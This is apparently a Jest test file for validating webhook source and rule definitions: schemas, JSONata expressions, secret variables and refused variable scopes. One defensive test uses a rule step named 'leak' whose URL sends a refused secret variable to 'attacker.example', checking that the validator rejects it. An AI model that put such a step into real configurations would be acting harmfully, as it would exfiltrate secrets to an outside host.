import { validateRuleDefinition, validateSourceDefinition } from './definition-validation';
import { RulesProblem, RulesValidationError } from './rules-validation.error';
import { VariableScope } from './variables';

const REFERENCES = { sourceIds: new Set(['shop']), connectionIds: new Set(['warehouse']) };

/** The variables of `values`, every one of them allowed unless listed in `refused`. */
const scope = (values: Record<string, string> = {}, refused: string[] = []): VariableScope => ({
  values,
  refusal: (name) => (refused.includes(name) ? `variable \${${name}} is refused here` : undefined),
});

function problemsOf(validate: () => unknown): RulesProblem[] {
  try {
    validate();
  } catch (error) {
    if (error instanceof RulesValidationError) return error.problems;
    throw error;
  }
  throw new Error('expected a RulesValidationError');
}

const ruleProblems = (value: unknown, variables: VariableScope = scope()): { path?: string; message: string }[] =>
  problemsOf(() => validateRuleDefinition(value, variables, REFERENCES)).map(({ path, message }) => ({ path, message }));

const sourceProblems = (value: unknown, variables: VariableScope = scope()): { path?: string; message: string }[] =>
  problemsOf(() => validateSourceDefinition(value, variables)).map(({ path, message }) => ({ path, message }));

const httpStep = { id: 'notify', type: 'http', url: 'http://receiver/orders' };

describe('validateSourceDefinition', () => {
  it('returns a valid source with its variables resolved', () => {
    expect(
      validateSourceDefinition(
        { id: 'shop', provider: 'hmac', secrets: ['${SHOP_SECRET}', 'plain'], eventType: 'payload.kind' },
        scope({ SHOP_SECRET: 's3cret' }),
      ),
    ).toEqual({ id: 'shop', provider: 'hmac', secrets: ['s3cret', 'plain'], eventType: 'payload.kind' });
  });

  it('reports schema problems with the words of a rules file, at paths inside the definition', () => {
    expect(sourceProblems({ id: 'shop', provider: 'hmac', colour: 'blue', tolerance: 'soon' })).toEqual([
      { path: 'secrets', message: 'the source: missing required key "secrets"' },
      { path: 'colour', message: 'the source: unknown key "colour"' },
      { path: 'tolerance', message: 'tolerance: must be a duration such as 250ms, 2s, 5m or 1h' },
    ]);
    expect(sourceProblems({ id: 'shop', provider: 'carrier-pigeon', secrets: ['s'] })).toEqual([
      {
        path: 'provider',
        message:
          'provider: must be one of github, stripe, slack, shopify, twilio, sendgrid, meraki, standard-webhooks, svix, hmac, basic, bearer, none',
      },
    ]);
    expect(sourceProblems('shop')).toEqual([{ path: '', message: 'the source: must be object' }]);
  });

  it('reports an expression that does not compile and a variable that is not set, at the secret', () => {
    expect(sourceProblems({ id: 'shop', provider: 'hmac', secrets: ['${SHOP_SECRET}'], idempotencyKey: 'payload.(' })).toEqual([
      { path: 'idempotencyKey', message: 'idempotencyKey: invalid JSONata at position 9: Expected ")" before end of expression' },
      { path: 'secrets.0', message: 'source "shop": variable ${SHOP_SECRET} is not set' },
    ]);
  });

  it('refuses a variable its scope refuses, without saying whether it is set', () => {
    const secrets = ['${MASTER}', 'plain-${MASTER}', '${SHOP_SECRET}'];
    const expected = [
      { path: 'secrets.0', message: 'secrets.0: variable ${MASTER} is refused here' },
      { path: 'secrets.1', message: 'secrets.1: variable ${MASTER} is refused here' },
    ];
    expect(sourceProblems({ id: 'shop', provider: 'hmac', secrets }, scope({ SHOP_SECRET: 's' }, ['MASTER']))).toEqual(expected);
    expect(sourceProblems({ id: 'shop', provider: 'hmac', secrets }, scope({ SHOP_SECRET: 's', MASTER: 'm' }, ['MASTER']))).toEqual(
      expected,
    );
  });

  it('resolves variables in secrets only: a reference in any other setting is a problem at its path', () => {
    const source = {
      id: 'shop',
      provider: 'basic',
      secrets: ['${SHOP_SECRET}'],
      username: '${SHOP_USER}',
      description: 'key ${SHOP_SECRET} and ${SHOP_SECRET:-x}',
      eventType: '"${SHOP_SECRET}"',
      allowIps: ['${SHOP_NET}'],
    };
    const notHere = (path: string, name: string) => ({
      path,
      message: `${path}: variable \${${name}} is not resolved here: a source written through the admin API takes \${VAR} references in secrets only`,
    });

    expect(sourceProblems(source, scope({ SHOP_SECRET: 's', SHOP_USER: 'u', SHOP_NET: '10.0.0.0/8' }))).toEqual([
      notHere('username', 'SHOP_USER'),
      notHere('description', 'SHOP_SECRET'),
      notHere('eventType', 'SHOP_SECRET'),
      notHere('allowIps.0', 'SHOP_NET'),
    ]);
  });

  it('takes the guards inline, and refuses a schema file path or a schema that is not valid', () => {
    const guards = {
      events: ['order.*'],
      unknownEvents: 'reject',
      schema: [{ events: ['order.created'], schema: { type: 'object', required: ['id'] } }],
      rateLimit: { perSecond: 10 },
    };
    expect(validateSourceDefinition({ id: 'shop', provider: 'none', ...guards }, scope())).toEqual({
      id: 'shop',
      provider: 'none',
      ...guards,
    });
    expect(sourceProblems({ id: 'shop', provider: 'none', schema: 'schemas/order.json' })).toEqual([
      {
        path: 'schema',
        message: 'schema: a schema file is read from a rules directory only; through the admin API give the schema itself',
      },
    ]);
    expect(sourceProblems({ id: 'shop', provider: 'none', schema: [{ events: ['*'], schema: { type: 'objekt' } }] })).toEqual([
      { path: 'schema.0.schema', message: expect.stringMatching(/^schema\.0\.schema: not a valid JSON Schema \(draft-07\): /) as unknown },
    ]);
  });

  it('refuses a schema whose keyword or format is misspelt, which would check nothing, but takes annotations', () => {
    expect(sourceProblems({ id: 'shop', provider: 'none', schema: { type: 'object', requried: ['id'] } })).toEqual([
      { path: 'schema', message: 'schema: not a valid JSON Schema (draft-07): strict mode: unknown keyword: "requried"' },
    ]);
    expect(sourceProblems({ id: 'shop', provider: 'none', schema: { properties: { to: { type: 'string', format: 'emial' } } } })).toEqual([
      { path: 'schema', message: expect.stringContaining('unknown format "emial"') as unknown },
    ]);
    const annotated = {
      type: 'object',
      example: { id: 1 },
      examples: [{ id: 1 }],
      'x-owner': 'billing',
      properties: { id: { 'x-pii': false } },
    };
    expect(validateSourceDefinition({ id: 'shop', provider: 'none', schema: annotated }, scope())).toMatchObject({ schema: annotated });
  });

  it('checks secrets again once resolved', () => {
    expect(sourceProblems({ id: 'shop', provider: 'hmac', secrets: ['ok', '${SHOP_SECRET:-}'] })).toEqual([
      { path: 'secrets.1', message: 'secrets.1: must NOT have fewer than 1 characters once its variables are resolved' },
    ]);
  });
});

describe('validateRuleDefinition', () => {
  it('returns a valid rule as written, variables unresolved, with its db targets located by path', () => {
    const rule = {
      id: 'big-order',
      source: 'shop',
      events: ['order.*'],
      when: 'payload.total >= 100',
      steps: [
        { ...httpStep, headers: { Authorization: 'Bearer ${TOKEN}' }, body: { total: '{{ payload.total }}' } },
        {
          id: 'store',
          type: 'db',
          connection: 'warehouse',
          table: 'orders',
          mode: 'upsert',
          key: ['id'],
          values: { id: '{{ payload.id }}' },
        },
      ],
    };

    const validated = validateRuleDefinition(rule, scope({ TOKEN: 't0ken' }), REFERENCES);

    expect(validated.rule).toEqual(rule);
    expect(validated.dbTargets).toEqual([
      {
        rule: 'big-order',
        step: 'store',
        connection: 'warehouse',
        table: 'orders',
        mode: 'upsert',
        at: { file: 'rule "big-order"', path: 'steps.1.table' },
        columns: [{ name: 'id', at: { file: 'rule "big-order"', path: 'steps.1.values.id' } }],
        key: ['id'],
        keyAt: { file: 'rule "big-order"', path: 'steps.1.key' },
      },
    ]);
  });

  it('accepts "*" as the source whatever sources exist', () => {
    expect(validateRuleDefinition({ id: 'all', source: '*', steps: [httpStep] }, scope(), REFERENCES).rule.source).toBe('*');
  });

  it('reports a missing required key at the path of that key, and an unknown key at its own path', () => {
    expect(ruleProblems({ id: 'r1', source: 'shop', retries: 3, steps: [{ id: 'notify', type: 'http' }] })).toEqual([
      { path: 'retries', message: 'the rule: unknown key "retries"' },
      { path: 'steps.0.url', message: 'steps.0: missing required key "url"' },
    ]);
    expect(ruleProblems({ id: 'r1', source: 'shop', steps: [{ id: 'mail', type: 'email', to: 'a@example.com', subject: 'hi' }] })).toEqual([
      { path: 'steps.0', message: 'steps.0: missing required key "text" or "html"' },
    ]);
    expect(ruleProblems({ id: 'r1', source: 'shop', steps: [{ id: 'x', type: 'ftp' }] })).toEqual([
      { path: 'steps.0.type', message: 'steps.0.type: must be one of http, transform, email, db' },
    ]);
  });

  it('reports the problems a rules file would: expressions, templates, step ids, variables, source, connection', () => {
    expect(
      ruleProblems({
        id: 'r1',
        source: 'shopp',
        when: 'payload.total >=',
        steps: [
          { id: 'notify', type: 'http', url: '${RECEIVER_URL}', body: { total: '{{ payload.total + }}' } },
          { id: 'notify', type: 'transform', expression: '{ "a": 1' },
          { id: 'store', type: 'db', connection: 'warehose', table: 'orders', values: { id: '{{ payload.id }}' } },
        ],
      }),
    ).toEqual([
      { path: 'source', message: 'rule "r1" names source "shopp", which does not exist' },
      { path: 'when', message: 'when: invalid JSONata at position 16: Unexpected end of expression' },
      {
        path: 'steps.0.body.total',
        message: 'total: template {{ payload.total + }}: invalid JSONata at position 15: Unexpected end of expression',
      },
      { path: 'steps.1.id', message: 'duplicate step id "notify" in rule "r1"' },
      { path: 'steps.1.expression', message: 'expression: invalid JSONata at position 8: Expected "}" before end of expression' },
      { path: '', message: 'rule "r1": variable ${RECEIVER_URL} is not set' },
      {
        path: 'steps.2.connection',
        message: 'step "store" of rule "r1" names connection "warehose", which the rules directory does not define',
      },
    ]);
  });

  it('refuses each variable its scope refuses at the path of its field, and never says whether it is set', () => {
    const rule = {
      id: 'r1',
      source: 'shop',
      when: '"${MASTER}" != ""',
      steps: [
        { id: 'leak', type: 'http', url: 'https://attacker.example/${MASTER}?db=${DB:-none}', headers: { 'X-Token': '${TOKEN}' } },
        { id: 'shout', type: 'transform', expression: '$uppercase("${UNSET}")' },
      ],
    };

    expect(ruleProblems(rule, scope({ TOKEN: 't', MASTER: 'm' }, ['MASTER', 'DB', 'UNSET']))).toEqual([
      { path: 'when', message: 'when: variable ${MASTER} is refused here' },
      { path: 'steps.0.url', message: 'steps.0.url: variable ${MASTER} is refused here' },
      { path: 'steps.0.url', message: 'steps.0.url: variable ${DB} is refused here' },
      { path: 'steps.1.expression', message: 'steps.1.expression: variable ${UNSET} is refused here' },
    ]);
    expect(ruleProblems({ ...rule, steps: [rule.steps[0]!] }, scope({}, ['MASTER', 'DB']))).toEqual([
      { path: 'when', message: 'when: variable ${MASTER} is refused here' },
      { path: 'steps.0.url', message: 'steps.0.url: variable ${MASTER} is refused here' },
      { path: 'steps.0.url', message: 'steps.0.url: variable ${DB} is refused here' },
      { path: '', message: 'rule "r1": variable ${TOKEN} is not set' },
    ]);
  });

  it('names the rule in each problem so a formatted problem reads on its own', () => {
    const [problem] = problemsOf(() => validateRuleDefinition({ id: 'r1', source: 'shop', steps: [] }, scope(), REFERENCES));
    expect(problem).toEqual({ file: 'rule "r1"', path: 'steps', message: 'steps: must NOT have fewer than 1 items' });
  });
});
